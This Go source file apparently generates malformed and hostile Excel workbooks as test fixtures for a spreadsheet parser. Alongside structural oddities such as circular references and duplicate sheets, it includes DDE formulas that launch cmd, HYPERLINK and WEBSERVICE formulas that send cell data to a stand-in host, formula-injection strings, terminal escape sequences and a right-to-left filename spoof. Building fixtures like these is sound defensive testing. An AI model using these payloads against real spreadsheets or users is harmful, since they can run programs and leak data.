package hostile

import "strings"

// contents are built well, and hold what other programs would run or follow.
func contents() []File {
	sheets := func(list string) func() []byte {
		return func() []byte { return plain("").with(book, `<sheet name="A" sheetId="1" r:id="r1"/>`, list).zip() }
	}
	two := func(first, second string) func() []byte {
		return func() []byte {
			return plain("").with(book, `<sheet name="A" sheetId="1" r:id="r1"/>`, `<sheet name="`+first+`" sheetId="1" r:id="r1"/><sheet name="`+second+`" sheetId="2" r:id="r4"/>`).
				with(bookRels, "</Relationships>", `<Relationship Id="r4" Type="`+officeNS+`/worksheet" Target="worksheets/sheet2.xml"/></Relationships>`).
				set("xl/worksheets/sheet2.xml", text(sheetHead+sheetTail)).zip()
		}
	}
	formulas := func(list ...string) func() []byte {
		return func() []byte {
			var b strings.Builder
			for _, f := range list {
				b.WriteString(`<row><c><f>` + f + `</f><v>1</v></c></row>`)
			}
			return plain(b.String()).zip()
		}
	}
	related := func(kind, target string) func() []byte {
		return func() []byte {
			return plain("").with(bookRels, "</Relationships>", `<Relationship Id="r9" Type="`+kind+`" Target="`+target+`"/></Relationships>`).zip()
		}
	}
	names := `<definedNames><definedName name="a">b+1</definedName><definedName name="b">a+1</definedName></definedNames></workbook>`
	return []File{
		{"sheets-one-name.xlsx", "two sheets of one name", "FILE-30", false, two("Goals", "Goals")},
		{"sheets-twins.xlsx", "two sheets whose names differ only in capitals", "FILE-30", false, two("Goals", "GOALS")},
		{"sheets-none.xlsx", "no sheet", "FILE-28", false, sheets("")},
		{"sheets-lost.xlsx", "a sheet that is not there", "FILE-27", false, sheets(`<sheet name="A" sheetId="1" r:id="r8"/>`)},
		{"sheets-two-books.xlsx", "two workbooks in one file", "FILE-29", false, func() []byte {
			return plain("").with(topRels, "</Relationships>", `<Relationship Id="r2" Type="`+officeNS+`/officeDocument" Target="xl/other.xml"/></Relationships>`).zip()
		}},
		{"sheets-circle.xlsx", "a workbook that leads to itself", "FILE-29", false, func() []byte {
			return plain("").with(bookRels, `Target="worksheets/sheet1.xml"`, `Target="workbook.xml"`).zip()
		}},
		{"formula-circle.xlsx", "formulas that refer to each other in a circle", "PKT-02", false, formulas("A2", "A1", "A3")},
		{"formula-deep.xlsx", "a formula of ten thousand brackets", "PKT-02", false, formulas(strings.Repeat("(", 10_000) + "1" + strings.Repeat(")", 10_000))},
		{"formula-run.xlsx", "formulas that run programs", "PKT-02", false, formulas(`cmd|' /C calc'!A0`, `HYPERLINK("http://192.0.2.1/?"&amp;A1)`, `WEBSERVICE("http://192.0.2.1/")`)},
		{"formula-names.xlsx", "names that refer to each other in a circle", "PKT-02", false, func() []byte { return plain("").with(book, "</workbook>", names).zip() }},
		{"texts-formulas.xlsx", "texts that begin as formulas do", "PKT-02", false, textsOf("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "=cmd|' /C calc'!A0")},
		{"texts-terminal.xlsx", "texts that command a terminal", "PKT-02", false, textsOf("\x1b[2J\x1b]0;owned\x07", "\u202egnp.exe", "\u0085\u009b2J")},
		{"texts-dressed.xlsx", "a sheet whose name commands a terminal", "FILE-29", false, sheets(`<sheet name="_x001B_[2J" sheetId="1" r:id="r1"/>`)},
		{"links.xlsx", "links to other workbooks", "FILE-41", false, related(officeNS+"/externalLink", "externalLinks/externalLink1.xml")},
		{"links-dde.xlsx", "values from other programs (DDE)", "FILE-41", false, func() []byte {
			return plain("").with(bookRels, "</Relationships>", `<Relationship Id="r9" Type="`+officeNS+`/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`).
				set("xl/externalLinks/externalLink1.xml", text(`<externalLink xmlns="`+mainNS+`"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>`)).zip()
		}},
		{"macros.xlsm", "macros", "FILE-40", false, related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")},
		{"notes-nobody.xlsx", "a note by an author before the first", "PKT-02", false, func() []byte {
			return plain("").set("xl/worksheets/_rels/sheet1.xml.rels", text(`<Relationships xmlns="`+packageNS+`"><Relationship Id="r1" Type="`+officeNS+`/comments" Target="../comments1.xml"/></Relationships>`)).
				set("xl/comments1.xml", text(`<comments xmlns="`+mainNS+`"><authors/><commentList><comment ref="A1" authorId="-1"><text><t>x</t></text></comment></commentList></comments>`)).zip()
		}},
		{"binary.xlsx", "a binary workbook", "FILE-06", false, func() []byte {
			return plain("").with(types, "spreadsheetml.sheet.main+xml", "sheet.binary.macroEnabled.main").zip()
		}},
		{"web-page.xlsx", "a web page", "FILE-09", false, func() []byte { return []byte("<html><script>alert(1)</script><table><tr><td>1</td></tr></table>") }},
		{"printed.xlsx", "a PDF", "FILE-12", false, func() []byte { return []byte("%PDF-1.7\n") }},
	}
}

// textsOf is a workbook with these texts, each in a row, written as Excel writes
// what XML cannot hold.
func textsOf(list ...string) func() []byte {
	escape := strings.NewReplacer("\x1b", "_x001B_", "\x07", "_x0007_", "\t", "_x0009_", "\r", "_x000D_", "\u0085", "_x0085_", "\u009b", "_x009B_")
	return func() []byte {
		var b strings.Builder
		for _, t := range list {
			b.WriteString(`<row><c t="inlineStr"><is><t xml:space="preserve">` + escape.Replace(t) + `</t></is></c></row>`)
		}
		return plain(b.String()).zip()
	}
}
